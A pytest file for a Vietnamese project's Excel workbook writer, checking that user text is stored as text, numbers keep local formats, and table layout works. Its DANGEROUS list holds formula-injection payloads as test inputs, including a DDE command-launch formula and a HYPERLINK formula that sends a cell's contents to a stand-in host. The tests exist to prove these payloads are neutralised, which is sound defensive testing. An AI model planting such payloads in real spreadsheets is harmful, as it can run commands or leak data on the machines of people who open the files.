"""The workbook writer: text people typed is saved as text, whatever it starts with, and read
back exactly as typed; numbers stay numbers with the Vietnamese-looking formats; only code's
own formulas are formulas."""

import datetime as dt
import io
import re
import zipfile
from decimal import Decimal

import openpyxl
import pytest

from daotao.lib import xlsx

# What a spreadsheet would run if these were typed into a cell, and openpyxl's own traps
# ("=..." becomes a formula, "#N/A" an error).
DANGEROUS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "   =1+1",
    " \t =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '=HYPERLINK("http://x.test/?"&B2,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "-Nguyễn Văn An",
]
ERRORS = ["#N/A", "#REF!", "#DIV/0!"]
PLAIN = ["Nguyễn Văn An", "UBND xã An Lạc", "Phó Chủ tịch = lãnh đạo", "a+b", "7,5", " ", "1.040"]


def saved(book: xlsx.Book) -> tuple[openpyxl.Workbook, dict[str, str]]:
    """The workbook read back, and the XML of its sheets."""
    content = book.to_bytes()
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = {name: archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")}
    return openpyxl.load_workbook(io.BytesIO(content)), sheets


def one_cell(value, how="append"):
    book = xlsx.Book()
    sheet = book.sheet("S")
    if how == "append":
        sheet.append([value])
    elif how == "write":
        sheet.write(1, 1, value)
    else:
        sheet.append([xlsx.Cell(value, xlsx.BOLD)])
    loaded, xml = saved(book)
    return loaded["S"]["A1"], xml["xl/worksheets/sheet1.xml"]


@pytest.mark.parametrize("how", ["append", "write", "cell"])
@pytest.mark.parametrize("text", DANGEROUS + ERRORS)
def test_dangerous_text_is_a_string_cell_kept_as_typed(text, how):
    cell, xml = one_cell(text, how)
    assert cell.data_type == "s"
    assert cell.value == text
    assert "<f>" not in xml and "<f " not in xml
    assert 't="e"' not in xml


@pytest.mark.parametrize("text", DANGEROUS)
def test_formula_like_text_is_marked_typed_with_an_apostrophe(text):
    # Excel's quotePrefix: the value stays as typed, and editing the cell keeps it text.
    cell, _xml = one_cell(text)
    assert cell.quotePrefix


@pytest.mark.parametrize("text", PLAIN)
def test_plain_text_is_text_without_marks(text):
    cell, _xml = one_cell(text)
    assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", False)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("=1", True),
        ("+1", True),
        ("-1", True),
        ("@A1", True),
        ("  =1", True),
        ("\t1", True),
        ("\r1", True),
        ("\n\n=1", True),
        ("a=1", False),
        ("Nguyễn", False),
        ("", False),
        ("   ", False),
        ("1-1", False),
    ],
)
def test_formula_like(text, expected):
    assert xlsx.formula_like(text) is expected


def test_lazy_and_other_objects_are_written_as_their_text():
    class Label:
        def __str__(self):
            return "=1+1"

    cell, _xml = one_cell(Label())
    assert (cell.value, cell.data_type) == ("=1+1", "s")


def test_characters_xml_cannot_hold_are_left_out_rather_than_failing():
    cell, _xml = one_cell("Nguyễn\x0bVăn\x00 An\x1f")
    assert cell.value == "NguyễnVăn An"


def test_numbers_stay_numbers_with_vietnamese_looking_formats():
    book = xlsx.Book()
    sheet = book.sheet("S")
    sheet.append(
        [
            1040,
            xlsx.Cell(7, xlsx.Style(number_format=xlsx.CLASSES)),
            xlsx.Cell(Decimal("9.5"), xlsx.Style(number_format=xlsx.decimals(1))),
            xlsx.Cell(0.2016, xlsx.Style(number_format=xlsx.PERCENT)),
            xlsx.Cell(4419761, xlsx.Style(number_format=xlsx.INTEGER)),
            dt.date(2021, 1, 25),
            True,
            None,
        ]
    )
    loaded, _xml = saved(book)
    cells = loaded["S"][1]
    assert [c.data_type for c in cells[:5]] == ["n"] * 5
    assert [c.value for c in cells[:5]] == [1040, 7, 9.5, 0.2016, 4419761]
    # Locale-neutral codes: a Vietnamese Excel shows 07, 9,5, 20,16% and 4.419.761.
    assert [c.number_format for c in cells[1:5]] == ["[=0]0;[<10]00;#,##0", "0.0", "0.00%", "#,##0"]
    assert (cells[5].value, cells[5].number_format) == (dt.datetime(2021, 1, 25), "DD/MM/YYYY")
    assert (cells[6].value, cells[6].data_type) == (True, "b")
    assert loaded["S"]["H1"].value is None
    assert [xlsx.decimals(n) for n in (0, 1, 2)] == ["0", "0.0", "0.00"]


def test_only_the_codes_own_formulas_are_formulas():
    book = xlsx.Book()
    sheet = book.sheet("S")
    sheet.append([1])
    sheet.append([2])
    sheet.append([xlsx.Formula("SUM(A1:A2)"), "=SUM(A1:A2)"])
    loaded, xml = saved(book)
    total, text = loaded["S"]["A3"], loaded["S"]["B3"]
    assert (total.value, total.data_type) == ("=SUM(A1:A2)", "f")
    assert (text.value, text.data_type) == ("=SUM(A1:A2)", "s")
    assert re.findall(r"<f>(.*?)</f>", xml["xl/worksheets/sheet1.xml"]) == ["SUM(A1:A2)"]
    # Formulas are saved without values: the spreadsheet computes them on opening.
    assert loaded.calculation.fullCalcOnLoad


def test_an_empty_text_is_an_empty_cell():
    cell, _xml = one_cell("")
    assert cell.value is None


def test_sheets_rows_styles_and_layout():
    book = xlsx.Book(title="=Báo cáo", creator="Trường\x0b Chính trị")
    first = book.sheet("KetQua")
    second = book.sheet("YKien")
    assert first.append(["Tiêu đề"], xlsx.Style(bold=True, size=13)) == 1
    assert first.append() == 2  # an empty row counts, as in openpyxl
    assert first.append(["Cột", xlsx.Cell("Số", xlsx.Style(fill="E8ECF1"))], xlsx.HEADER | xlsx.Style(border=True)) == 3
    first.write(5, 2, "x")
    assert first.append([xlsx.Cell("after", xlsx.Style(italic=True))]) == 6
    first.widths((40, 12))
    first.widths({"D": 9})
    first.merge("A1:B1")
    first.freeze("A4")
    first.print_titles("3:3")
    first.page_setup(landscape=True, a4_fit_width=True)
    first.height(1, 30)
    second.append(["a"])
    loaded, _xml = saved(book)
    assert loaded.sheetnames == ["KetQua", "YKien"]
    assert (loaded.properties.title, loaded.properties.creator) == ("=Báo cáo", "Trường Chính trị")
    sheet = loaded["KetQua"]
    assert sheet["A1"].font.b and sheet["A1"].font.sz == 13
    header = sheet["B3"]
    assert header.font.b and header.fill.fgColor.rgb.endswith("E8ECF1") and header.border.left.style == "thin"
    assert header.alignment.horizontal == "center" and header.alignment.wrap_text
    assert sheet["B5"].value == "x" and sheet["A6"].value == "after" and sheet["A6"].font.i
    assert [sheet.column_dimensions[c].width for c in "ABD"] == [40, 12, 9]
    assert sheet.freeze_panes == "A4" and "A1:B1" in sheet.merged_cells
    assert sheet.page_setup.orientation == "landscape" and sheet.row_dimensions[1].height == 30


def test_styles_combine():
    combined = xlsx.BOLD | xlsx.Style(fill="FDE2E2") | xlsx.Style(number_format=xlsx.PERCENT)
    assert combined == xlsx.Style(bold=True, fill="FDE2E2", number_format="0.00%")
    assert xlsx.BOLD | None == xlsx.BOLD


def test_grades_averages_and_shares_are_numbers_with_their_formats():
    book = xlsx.Book()
    sheet = book.sheet("S")
    sheet.append(
        [
            xlsx.number(Decimal("8"), xlsx.GRADE),
            xlsx.number(Decimal("8.25"), xlsx.AVERAGE),
            xlsx.number(Decimal("0.9575"), xlsx.PERCENT),
            xlsx.number(None, xlsx.GRADE),
        ]
    )
    loaded, _xml = saved(book)
    cells = loaded["S"][1]
    # A Vietnamese Excel shows 8,0, 8,25 and 95,75%.
    assert [(c.value, c.data_type, c.number_format) for c in cells[:3]] == [
        (8, "n", "0.0"),
        (8.25, "n", "0.00"),
        (0.9575, "n", "0.00%"),
    ]
    assert cells[3].value is None


def test_a_table_keeps_its_heading_in_view_and_on_every_page():
    book = xlsx.Book()
    sheet = book.sheet("S")
    sheet.append(["Bảng điểm lớp TC01 – một tiêu đề dài chạy qua nhiều cột"], xlsx.BOLD)
    assert sheet.table_header(["STT", "Họ và tên", "Điểm"]) == 2
    sheet.append([1, "Nguyễn Văn An", xlsx.number(Decimal("8"), xlsx.GRADE)])
    sheet.append([2, "Trần Thị Bình Minh Ngọc", xlsx.number(Decimal("7.5"), xlsx.GRADE)])
    sheet.finish_table((6,), freeze_columns=2)
    loaded, _xml = saved(book)
    table = loaded["S"]
    assert table["B2"].font.b and table["B2"].fill.fgColor.rgb.endswith("E8ECF1")
    # Names stay in view on the left, the heading above; the heading heads every page.
    assert table.freeze_panes == "C3"
    assert table.print_title_rows == "$2:$2"
    # A given width, and the others from the longest value below the title.
    widths = {letter: table.column_dimensions[letter].width for letter in "ABC"}
    assert widths["A"] == 6 and widths["B"] == len("Trần Thị Bình Minh Ngọc") + 2 and widths["C"] == 8
    setup = table.page_setup
    assert (str(setup.paperSize), setup.orientation, setup.fitToWidth) == ("9", "portrait", 1)
    assert table.sheet_properties.pageSetUpPr.fitToPage


def test_a_heading_in_two_rows_a_wide_table_and_a_summary_sheet():
    book = xlsx.Book()
    wide = book.sheet("Wide")
    wide.table_header(["Đơn vị", "Chỉ tiêu", None])
    wide.table_header([None, "Lớp", "Học viên"])
    wide.append(["Huyện An Lạc", 7, 1040])
    wide.finish_table((40, 40, 40))
    summary = book.sheet("Summary")
    summary.append(["Kết quả đánh giá"])
    summary.append(["Lớp TC01"])
    summary.append(["Số phiếu mời", 40])
    summary.finish_table((60, 14), header=(1, 2))
    loaded, _xml = saved(book)
    assert (loaded["Wide"].freeze_panes, loaded["Wide"].print_title_rows) == ("A3", "$1:$2")
    assert loaded["Wide"].page_setup.orientation == "landscape"  # 120 characters across
    assert (loaded["Summary"].freeze_panes, loaded["Summary"].print_title_rows) == ("A3", "$1:$2")
    with pytest.raises(ValueError):
        xlsx.Book().sheet("S").finish_table((10,))


def test_a_wrapped_heading_row_is_tall_enough_for_its_lines():
    """A heading longer than its column wraps; its row gets the lines' height, so that it is
    not drawn over the rows below. A heading that fits keeps the default height."""
    book = xlsx.Book()
    sheet = book.sheet("Bang")
    sheet.table_header(["Giảng viên", "Giờ chuẩn: Hướng dẫn tiểu luận tốt nghiệp"])
    sheet.append(["Nguyễn Văn A", 1])
    sheet.finish_table((20, 12))
    rows = openpyxl.load_workbook(io.BytesIO(book.to_bytes()))["Bang"].row_dimensions
    assert rows[1].height == xlsx.HEADING_LINE_HEIGHT * 4  # 41 characters in 11 a line
    assert rows[2].height is None
